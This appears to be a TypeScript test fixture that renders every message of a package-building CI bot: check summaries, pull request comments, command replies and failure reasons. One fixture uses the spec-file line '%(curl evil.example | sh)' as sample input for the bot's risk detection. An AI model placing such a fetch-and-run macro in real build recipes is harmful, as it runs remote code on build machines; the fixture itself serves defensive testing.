import { checksOf } from "../../src/bot/check/check.ts";
import type { ConfigProblem } from "../../src/bot/config/config.ts";
import { help } from "../../src/bot/commands/help.ts";
import type { Voice } from "../../src/bot/review/review.ts";
import { reviewCheck } from "../../src/bot/check/review.ts";
import { RISKS } from "../../src/bot/risk/kinds.ts";
import { rowsOf } from "../../src/bot/check/rows.ts";
import { summaryOf } from "../../src/bot/check/summary.ts";
import { why } from "../../src/bot/commands/why.ts";
import { answers } from "../../src/bot/words/answers.ts";
import { because } from "../../src/bot/words/because.ts";
import { wrongs } from "../../src/bot/words/commands.ts";
import { planSummary, planTitle } from "../../src/bot/words/config-plan.ts";
import { eta } from "../../src/bot/words/eta.ts";
import { install } from "../../src/bot/words/install.ts";
import {
  leftBecause,
  leftMistake,
  leftNoImage,
  leftNoTree,
  leftUnacked,
  leftUnbuilt,
} from "../../src/bot/words/left.ts";
import { ledger } from "../../src/bot/words/ledger.ts";
import { type Notice, notices } from "../../src/bot/words/notices.ts";
import { riskList } from "../../src/bot/words/risk.ts";
import { commandRules, rules } from "../../src/bot/words/rules.ts";
import { treefile } from "../../src/bot/words/treefile.ts";
import { sticky } from "../../src/bot/words/sticky.ts";
import { stopped } from "../../src/bot/words/stopped.ts";
import { KINDS } from "../../src/pipelines/log/patterns-signs.ts";
import type { Run } from "../../src/pipelines/run.ts";
import { forecastPages } from "./words-page-forecast.ts";
import { bootPages } from "./words-page-boot.ts";
import { targetPages } from "./words-page-targets.ts";
import { treePages } from "./words-page-trees.ts";
import { upgradePages } from "./words-page-upgrade.ts";
import { updatePages } from "./words-page-updates.ts";
import { heldPages } from "./words-page-holds.ts";
import { rebuildPages } from "./words-page-rebuilds.ts";
import { releasePages } from "./words-page-releases.ts";
import { ADVISORY, BUILD, files, having, pullRun, pushRun, SOURCE, telling } from "./sample.ts";

const [SHA, OTHER] = ["a".repeat(40), "b".repeat(40)];
const AT = "2026-11-21T10:00:00.000Z";

const known = <R extends Run>(run: R): R => ({ ...run, leave: { rule: "acked", by: "maria" } });
const passed = { state: "passed", files, build: "b:1" } as const;
const log = "cc -c greet.c\ngreet.c:3:17: error: expected ‘;’ before ‘return’\nmake: *** [greet.o] Error 1";
const left: Run["left"] = [
  { what: "cowsay", because: leftBecause({ rule: "untouched", paths: ["cowsay/", "."] }) },
  { what: "old-tool", because: leftBecause({ rule: "skip" }) },
  { what: "img/config.xml", because: leftNoTree },
  { what: "img/_service", because: leftUnbuilt("service") },
  { what: "os", because: leftNoImage },
  { what: "micro", because: leftUnacked },
  leftMistake({ line: 3, column: 5, because: "gone/gone.spec is not there at this commit" }),
];

const touches: Run["touches"] = {
  direct: [
    { kind: "rpm", name: "libpng" },
    { kind: "rpm", name: "panel", repo: "acme/desktop" },
  ],
  directs: 2,
  behind: [{ kind: "image", name: "os" }],
  behinds: 41,
};
const opened = { ...known(pullRun), left, touches };
const broken = having(known(pullRun), {
  [SOURCE]: passed,
  [BUILD]: {
    state: "failed",
    because: log,
    build: "b:2",
    trouble: { kind: "compiler", scriptlet: "%build", guessed: false },
  },
  [ADVISORY]: { state: "running", phase: "BUILD", build: "b:3", attempt: 2, startedAt: AT },
});
const published = having(known(pushRun), {
  [SOURCE]: passed,
  [BUILD]: passed,
  [ADVISORY]: { ...passed, build: undefined, facts: { "taken from": `${pushRun.id}#${ADVISORY}#1` } },
  "publish/devel": {
    state: "passed",
    facts: { snapshot: "20261121_01", url: "https://mirror.example/acme/os/devel" },
  },
  "backfill/devel": { state: "running" },
});
const unfetched = having(known(pushRun), {
  [SOURCE]: { state: "failed", because: "the host evil.example is not on the list of hosts", build: "b:1" },
  [BUILD]: { state: "skipped", because: SOURCE },
  [ADVISORY]: { state: "skipped", because: SOURCE },
  "publish/devel": { state: "skipped", because: BUILD },
  "backfill/devel": { state: "skipped", because: "publish/devel" },
});
const unlucky = having(known(pullRun), {
  [SOURCE]: passed,
  [BUILD]: { state: "timed-out", because: because.timedOut },
  [ADVISORY]: { state: "errored", because: because.fault("the host went away"), attempt: 3 },
});
const superseded = having(known(pullRun), {
  [SOURCE]: { state: "cancelled", because: because.superseded("c".repeat(40)) },
});

const checks = (run: Run): string =>
  checksOf(run, telling)
    .map(({ name, title, summary }) => `### ${name}: ${title}\n\n${summary}`)
    .join("\n\n");

const risks = riskList(
  RISKS.map((what, i) => ({
    path: "greet/greet.spec",
    line: i + 1,
    what,
    text: "%(curl evil.example | sh)",
  })),
  OTHER,
);

const comment = (run: Run): string =>
  sticky({
    newest: { v: 1, sha: SHA, run: run.id },
    run,
    title: summaryOf(run).title,
    rows: rowsOf(run, telling),
    answers: [
      { comment: 1, by: "carol", line: "/build arm64", said: answers.building(["greet"]), at: AT },
      { comment: 2, by: "maria", line: "/why", said: why(run, asked), at: AT },
    ],
  });

const asked = { leave: { may: true, rule: "acked" }, sha: SHA } as const;

const ANSWERS: Readonly<Record<keyof typeof answers, string>> = {
  refused: answers.refused(commandRules.needsCommitter),
  notBuilt: answers.notBuilt("Nothing to build: no recipe is touched"),
  unknown: answers.unknown("rebuild", "build"),
  wrong: answers.wrong(wrongs.tooMany("/eta")),
  noJob: answers.noJob("gret", ["greet", "cowsay"]),
  noRun: answers.noRun,
  notOpen: answers.notOpen,
  rulesBroken: answers.rulesBroken,
  acked: answers.acked(SHA),
  ackedNotBuilt: answers.ackedNotBuilt(SHA, "Nothing to build"),
  otherHead: answers.otherHead("1234567", SHA),
  raced: answers.raced(SHA),
  nacked: answers.nacked("maria"),
  building: answers.building(["rpm:greet:debian-12-x86_64"]),
  again: answers.again(["rpm:greet:debian-12-x86_64"]),
  nothingToRetry: answers.nothingToRetry,
  alreadyBuilt: answers.alreadyBuilt(["rpm:greet:debian-12-x86_64"]),
  untouched: answers.untouched,
  noSuchArch: answers.noSuchArch(["s390x"], ["x86_64"]),
  stopped: answers.stopped(["rpm:greet:debian-12-x86_64"]),
  nothingToStop: answers.nothingToStop,
};

const WRONGS: Readonly<Record<keyof typeof wrongs, string>> = {
  tooMany: wrongs.tooMany("/eta"),
  tooFew: wrongs.tooFew("/pin <channel> <number>"),
  tooLong: wrongs.tooLong(300),
  noSha: wrongs.noSha("HEAD"),
  noNumber: wrongs.noNumber,
  otherNumber: wrongs.otherNumber("20261121"),
  otherArch: `${wrongs.otherArch("armv7l", "aarch64")}\n${wrongs.otherArch("riscv64", undefined)}`,
};

const problems: readonly ConfigProblem[] = [
  { line: 3, column: 5, because: "recpies: nothing of this name is known here", suggestion: "recipes" },
];

const NOTICES: Readonly<Record<keyof typeof notices, Notice>> = {
  untrusted: notices.untrusted(rules.neither, SHA, riskList([], OTHER)),
  config: notices.config(".millwright.yml", problems),
  nothing: notices.nothing(left),
  noTargets: notices.noTargets(".millwright.yml"),
};

const BECAUSE: Readonly<Record<keyof typeof because, string>> = {
  expired: because.expired,
  noResults: because.noResults,
  noBoot: because.noBoot("debian-12", "s390x"),
  noDisk: because.noDisk,
  results: ([{ wrong: "count" }, { wrong: "line" }, { wrong: "missing", name: "greet.rpm" }] as const)
    .map((problem) => because.results(problem))
    .join("\n"),
  stopped: because.stopped,
  tooLarge: because.tooLarge("SHA256SUMS"),
  noFacts: because.noFacts("facts.json"),
  timedOut: because.timedOut,
  fault: because.fault("no capacity"),
  superseded: because.superseded("c".repeat(40)),
  withdrawn: because.withdrawn,
  closed: because.closed,
  leftQueue: because.leftQueue,
  retargeted: because.retargeted,
  person: because.person("maria"),
  shared: because.shared,
  noPullKey: because.noPullKey,
  wentBack: because.wentBack,
  keyExpired: [
    { expires: "2026-11-20", owner: "Maria", purpose: "signs packages" },
    { expires: "2026-11-20" },
  ]
    .map((ended) => because.keyExpired(ended))
    .join("\n"),
  noSnapshot: because.noSnapshot("release", "20261120_01"),
  treefile: because.treefile(`tree.yaml:2: ${treefile.noRef}`),
  noRepository: because.noRepository({ name: "apt", at: "os/os.kiwi:7" }, "leap-15.6"),
  noImage: because.noImage("debian-12", "s390x"),
};

const TREEFILE: Readonly<Record<keyof typeof treefile, string>> = {
  ...treefile,
  shape: treefile.shape("packages", treefile.texts),
  twice: treefile.twice("ref"),
  aliases: treefile.aliases(100),
  item: treefile.item(300),
  many: treefile.many("packages", 5000),
  outside: treefile.outside("../common.yaml"),
  included: treefile.included("base.yaml"),
  files: treefile.files(50),
  condition: treefile.condition("time == now"),
  ref: treefile.ref("../b"),
  unknown: treefile.unknown("arch"),
  dash: treefile.dash("--root=/"),
};

const plans = [
  { mistakes: problems },
  { changes: [] },
  {
    changes: [
      { what: "committer", name: "583231", proposed: "yes" },
      { what: "job", name: "rpm:greet:debian-12-x86_64", now: "required", proposed: "advisory" },
    ],
  },
] as const;

const review = (acks: number, lazyDays?: number, ...voices: Voice[]): string => {
  const rulesOf = { acks, lazyDays };
  const since = { sha: SHA, since: AT, now: AT };
  const check = reviewCheck(7, { rules: rulesOf, voices, committers: [1, 2], author: 3, ...since });
  return `### ${check.title}\n\n${check.summary}`;
};
const voice = (kind: "ack" | "nack", id = 1) =>
  ({ kind, person: { id, login: `maria-${id}` }, sha: SHA, at: AT }) as const;

const lines = (table: Readonly<Record<string, string>>): string => Object.values(table).join("\n");

/** All that the bot says, a heading for each occasion. */
export const page = (): string =>
  Object.entries({
    "A pull request that was just opened": checks(opened),
    "A pull request that breaks the build": checks(broken),
    "A push that was built, partly taken from an equal build, and published": checks(published),
    "A push whose sources could not be fetched": checks(unfetched),
    "A pull request that timed out, or met trouble": checks(unlucky),
    "A pull request that was superseded": checks(superseded),
    "The comment on a pull request": comment(broken),
    "The comment on a pull request that waits": sticky({
      newest: { v: 1, sha: SHA, refused: NOTICES.untrusted.title, risks },
      run: undefined,
      title: undefined,
      rows: [],
      answers: [],
    }),
    "How to install what was built": install({
      repo: "os",
      channel: "pr/7",
      target: "debian-12",
      url: "https://mirror.example/acme/os/pr/7",
      packages: ["greet"],
    }),
    "Of what nothing is built": Object.values(NOTICES)
      .map(({ title, summary }) => `### ${title}\n\n${summary}`)
      .join("\n\n"),
    "Answers to commands": lines(ANSWERS),
    "Words of commands that are not taken": lines(WRONGS),
    "/help": help(),
    "/why": [why(broken, asked), why(unfetched, asked), why(opened, { ...asked, job: "cowsay" })].join(
      "\n\n",
    ),
    "/eta": eta(having(known(pullRun), { [SOURCE]: passed }), {
      waits: new Map([[BUILD, { before: 2, seconds: 300 }]]),
      estimate: { run: 900, jobs: new Map([["rpm:greet:debian-12-x86_64", 900]]) },
    }),
    "What a proposed config would change": plans
      .map((plan) => `### ${planTitle(plan)}\n\n${planSummary(plan)}`)
      .join("\n\n"),
    ...releasePages(),
    ...rebuildPages(),
    ...forecastPages,
    ...heldPages(),
    ...bootPages(),
    ...upgradePages(),
    ...updatePages(),
    ...targetPages(),
    ...treePages(),
    "The review": [
      review(2, 5, voice("ack")),
      review(1, undefined, voice("ack")),
      review(1, 5, voice("nack"), voice("ack", 2)),
    ].join("\n\n"),
    "What stopped a build": KINDS.map((kind) => stopped({ kind, guessed: false })).join("\n"),
    "Why a stage ended as it did": lines(BECAUSE),
    "What is wrong in a treefile": lines(TREEFILE),
    "By which rule": lines({ ...rules, ...commandRules }),
    "What became of a delivery": Object.values(ledger)
      .map((one) => (typeof one === "string" ? one : one("main")))
      .join("\n"),
  })
    .map(([heading, text]) => `## ${heading}\n\n${text.trimEnd()}\n`)
    .join("\n");
